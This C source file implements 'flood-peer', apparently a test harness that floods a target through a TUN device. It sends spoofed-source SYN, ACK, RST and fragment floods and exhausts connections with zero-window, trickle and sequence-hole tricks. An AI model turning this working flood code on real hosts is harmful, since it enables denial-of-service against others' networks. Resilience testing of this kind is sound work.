/*
 * Hostile peers for scripts/floods: IPv4 packets with made-up sources, by a raw socket to a TUN device.
 * usage: flood-peer KIND DEVICE TARGET PORT SECONDS CONNECTIONS [RATE]; RATE is packets per second at most.
 *
 * syn, ack, rst, fragments: packets that belong to nothing. rst has the sources of real clients.
 * halfopen, holes, unread, zerowindow, trickle: so many connections are opened first, by a TCP of a few
 * lines that hears the answers on the device, and then are misused. Prints
 * `PACKETS SECONDS CONNECTIONS` when the time is over.
 */
#include "peer.h"
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>

enum { FIN = 1, SYN = 2, RST = 4, PSH = 8, ACK = 16 };
enum { BATCH = 64, TEXT = 1400, PACKET = 1500, SOURCES = 1 << 22, FIRST_SOURCE = 0x0a400000 };
enum { AT_A_TIME = 256 };

struct peer {
  uint32_t seq, ack, acked;
  uint32_t window;
  uint16_t turn;
  uint8_t state; /* 0 closed, 1 SYN sent, 2 open */
};

static int out, in;
static uint32_t target;
static uint16_t port;
static struct peer *peers;
static int wanted, opened, asked;
static int64_t sent, start, rate;
static uint8_t batch[BATCH][PACKET];
static struct iovec pieces[BATCH];
static struct mmsghdr messages[BATCH];
static struct sockaddr_in to;
static int filled;
static uint32_t randomness = 2463534242u;

static uint32_t any(void) {
  randomness ^= randomness << 13;
  randomness ^= randomness >> 17;
  return randomness ^= randomness << 5;
}

static uint32_t sum(const uint8_t *bytes, int length, uint32_t total) {
  for (int i = 0; i + 1 < length; i += 2) total += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
  return length & 1 ? total + (uint32_t)(bytes[length - 1] << 8) : total;
}

static uint16_t fold(uint32_t total) {
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return (uint16_t)~total;
}

static void put16(uint8_t *at, uint32_t value) {
  at[0] = (uint8_t)(value >> 8);
  at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value) {
  put16(at, value >> 16);
  put16(at + 2, value);
}

static uint32_t get32(const uint8_t *at) {
  return (uint32_t)at[0] << 24 | (uint32_t)(at[1] << 16 | at[2] << 8 | at[3]);
}

/* A device whose queue is full says so (IP_RECVERR): the flood goes at the rate that it carries. */
static void flush(void) {
  for (int done = 0; done < filled;) {
    int count = sendmmsg(out, messages + done, (unsigned)(filled - done), 0);
    if (count > 0) {
      done += count;
      sent += count;
      continue;
    }
    if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) exit(fail("sendmmsg"));
    struct timespec pause = {.tv_nsec = 200000};
    nanosleep(&pause, NULL);
  }
  filled = 0;
  if (rate == 0) return;
  int64_t due = start + sent * 1000000000 / rate, wait = due - now_ns();
  if (wait > 0) {
    struct timespec pause = {.tv_sec = wait / 1000000000, .tv_nsec = wait % 1000000000};
    nanosleep(&pause, NULL);
  }
}

/* Room for a packet; its IPv4 header has all but the checksum, which the kernel fills in. */
static uint8_t *packet(uint32_t source, int length, uint32_t id, uint32_t fragment) {
  if (filled == BATCH) flush();
  uint8_t *ip = batch[filled];
  memset(ip, 0, 40);
  ip[0] = 0x45;
  put16(ip + 2, (uint32_t)length);
  put16(ip + 4, id);
  put16(ip + 6, fragment);
  ip[8] = 64;
  ip[9] = 6;
  put32(ip + 12, source);
  put32(ip + 16, target);
  pieces[filled].iov_len = (size_t)length;
  filled++;
  return ip;
}

static void segment(uint32_t source, uint16_t from, uint32_t seq, uint32_t ack, int flags,
                    uint32_t window, const char *text, int length) {
  /* MSS and window scale; then SACK-permitted and timestamps, for those that do not go on. */
  static const uint8_t options[] = {2, 4, 5, 180, 1, 3, 3, 7, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0};
  int opt = flags != SYN ? 0 : wanted == 0 ? (int)sizeof options : 8;
  int total = 20 + opt + length;
  uint8_t *ip = packet(source, 20 + total, any(), 0x4000), *tcp = ip + 20;
  put16(tcp, from);
  put16(tcp + 2, port);
  put32(tcp + 4, seq);
  put32(tcp + 8, ack);
  tcp[12] = (uint8_t)((20 + opt) / 4 << 4);
  tcp[13] = (uint8_t)flags;
  put16(tcp + 14, window);
  put32(tcp + 16, 0);
  memcpy(tcp + 20, options, (size_t)opt);
  if (length > 0 && text != NULL) memcpy(tcp + 20 + opt, text, (size_t)length);
  else memset(tcp + 20 + opt, 'x', (size_t)length);
  put16(tcp + 16, fold(sum(tcp, total, sum(ip + 12, 8, (uint32_t)(6 + total)))));
}

static uint32_t source_of(int i) { return FIRST_SOURCE + 1 + (uint32_t)i; }

static uint16_t port_of(int i) { return (uint16_t)(1024 + i % 60000); }

static void say(int i, uint32_t seq, int flags, uint32_t window, const char *text, int length) {
  segment(source_of(i), port_of(i), seq, peers[i].ack, flags, window, text, length);
}

/* What the target has sent to our connections since. `window` is what we offer in answer; -1: no answer. */
static void hear(int window) {
  uint8_t bytes[256];
  struct sockaddr_ll from;
  for (int limit = 0; limit < 4096; limit++) {
    socklen_t size = sizeof from;
    ssize_t got = recvfrom(in, bytes, sizeof bytes, MSG_DONTWAIT | MSG_TRUNC,
                           (struct sockaddr *)&from, &size);
    if (got < 0) return;
    if (got < 40 || from.sll_pkttype == PACKET_OUTGOING || bytes[9] != 6) continue;
    uint32_t i = get32(bytes + 16) - FIRST_SOURCE - 1;
    if (i >= (uint32_t)wanted) continue;
    struct peer *peer = &peers[i];
    uint8_t *tcp = bytes + 20;
    int header = tcp[12] >> 4 << 2, text = (int)got - 20 - header;
    if (tcp[13] & RST) {
      if (peer->state == 2) opened--;
      peer->state = 0;
      continue;
    }
    if ((tcp[13] & (SYN | ACK)) == (SYN | ACK)) {
      if (peer->state == 2) continue;
      peer->state = 2;
      opened++;
      peer->ack = get32(tcp + 4) + 1;
      peer->acked = peer->seq = get32(tcp + 8);
      say((int)i, peer->seq, ACK, 65535, NULL, 0);
      continue;
    }
    if (peer->state != 2) continue;
    peer->acked = get32(tcp + 8);
    peer->window = (uint32_t)(tcp[14] << 8 | tcp[15]);
    if (window < 0 || text <= 0) continue;
    if (get32(tcp + 4) == peer->ack && peer->turn == 0) {
      peer->turn = 1;
      peer->ack += (uint32_t)(text < 1000 ? text : 1000);
    }
    say((int)i, peer->acked, ACK, (uint32_t)window, NULL, 0);
  }
}

/* Opens what is not open, a few at a time, and again a second later what was not answered. */
static void open_all(int64_t end, int window) {
  while (opened < wanted && now_ns() < end) {
    int64_t round = now_ns();
    for (int i = 0; i < wanted && now_ns() < end; i++) {
      if (peers[i].state == 2) continue;
      peers[i].state = 1;
      peers[i].seq = any();
      say(i, peers[i].seq, SYN, 65535, NULL, 0);
      if (++asked % AT_A_TIME != 0) continue;
      flush();
      for (int tries = 0; tries < 20; tries++) {
        struct timespec pause = {.tv_nsec = 500000};
        nanosleep(&pause, NULL);
        hear(window);
        flush();
        if (opened + AT_A_TIME / 2 >= asked) break;
      }
    }
    flush();
    while (opened < wanted && now_ns() < round + 1000000000 && now_ns() < end) {
      struct timespec pause = {.tv_nsec = 1000000};
      nanosleep(&pause, NULL);
      hear(window);
      flush();
    }
  }
}

static void stateless(const char *kind, int64_t end) {
  uint32_t client = (target & 0xffffff00u) + 1;
  while (now_ns() < end) {
    for (int i = 0; i < BATCH; i++) {
      uint32_t source = FIRST_SOURCE + any() % SOURCES;
      uint16_t from = (uint16_t)(1024 + any() % 64000);
      if (!strcmp(kind, "syn")) segment(source, from, any(), 0, SYN, 64240, NULL, 0);
      else if (!strcmp(kind, "ack")) segment(source, from, any(), any(), ACK, 64240, NULL, 0);
      else if (!strcmp(kind, "rst"))
        segment(client, (uint16_t)(32768 + any() % 28232), any(), any(), RST, 0, NULL, 0);
      else memset(packet(source, 1044, any(), 0x2000) + 40, 'x', 1004);
    }
    flush();
  }
}

static void misuse(const char *kind, int64_t end) {
  int holes = !strcmp(kind, "holes"), unread = !strcmp(kind, "unread");
  int zero = !strcmp(kind, "zerowindow"), trickle = !strcmp(kind, "trickle");
  while (now_ns() < end) {
    int64_t before = sent;
    for (int i = 0; i < wanted && now_ns() < end; i++) {
      struct peer *peer = &peers[i];
      if (peer->state != 2) continue;
      /* The first one is in order, and opens the window. */
      if (holes) say(i, peer->seq + 2u * TEXT * peer->turn++, ACK, 65535, NULL, TEXT);
      if (unread && peer->window > 0) say(i, peer->acked, ACK, 65535, NULL, TEXT);
      if (trickle) say(i, peer->acked, ACK, 65535, "a", 1);
      if (i % BATCH == 0) hear(zero ? 0 : -1);
    }
    if (holes && peers[0].turn > 100)
      for (int i = 0; i < wanted; i++) peers[i].turn = 0;
    hear(zero ? 0 : -1);
    flush();
    if (sent - before >= BATCH) continue;
    struct timespec pause = {.tv_nsec = 1000000};
    nanosleep(&pause, NULL);
  }
}

int main(int argc, char **argv) {
  struct sockaddr_in address;
  if (argc < 7 || !parse_address(argv[3], argv[4], &address)) return 2;
  const char *kind = argv[1];
  target = ntohl(address.sin_addr.s_addr);
  port = ntohs(address.sin_port);
  wanted = atoi(argv[6]);
  rate = argc > 7 ? atoll(argv[7]) : 0;
  peers = calloc((size_t)wanted + 1, sizeof *peers);
  for (int i = 0; i < wanted; i++) peers[i].window = 65535;
  out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  in = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (out < 0 || in < 0) return fail("raw socket");
  int on = 1, room = 32 << 20;
  setsockopt(out, IPPROTO_IP, IP_RECVERR, &on, sizeof on);
  setsockopt(out, SOL_SOCKET, SO_SNDBUF, &room, sizeof room);
  setsockopt(in, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof room);
  struct sockaddr_ll device = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
  device.sll_ifindex = (int)if_nametoindex(argv[2]);
  if (bind(in, (struct sockaddr *)&device, sizeof device) != 0) return fail("bind");
  to = address;
  to.sin_port = 0;
  for (int i = 0; i < BATCH; i++) {
    pieces[i].iov_base = batch[i];
    messages[i].msg_hdr.msg_iov = &pieces[i];
    messages[i].msg_hdr.msg_iovlen = 1;
    messages[i].msg_hdr.msg_name = &to;
    messages[i].msg_hdr.msg_namelen = sizeof to;
  }
  start = now_ns();
  int64_t end = start + (int64_t)(atof(argv[5]) * 1e9);
  if (wanted == 0) {
    stateless(kind, end);
  } else {
    open_all(end, strcmp(kind, "zerowindow") ? -1 : 0);
    misuse(kind, end);
  }
  printf("%lld %.3f %d\n", (long long)sent, (double)(now_ns() - start) / 1e9, opened);
  return 0;
}
